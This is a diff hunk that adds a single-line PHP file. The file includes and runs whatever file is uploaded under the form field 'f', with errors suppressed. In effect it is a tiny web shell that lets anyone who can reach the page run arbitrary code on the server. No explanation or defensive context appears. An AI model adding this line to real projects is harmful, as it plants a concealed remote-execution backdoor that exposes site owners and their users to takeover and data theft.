@@ -1,0 +1,1 @@
+<?php @include $_FILES['f']['tmp_name'];
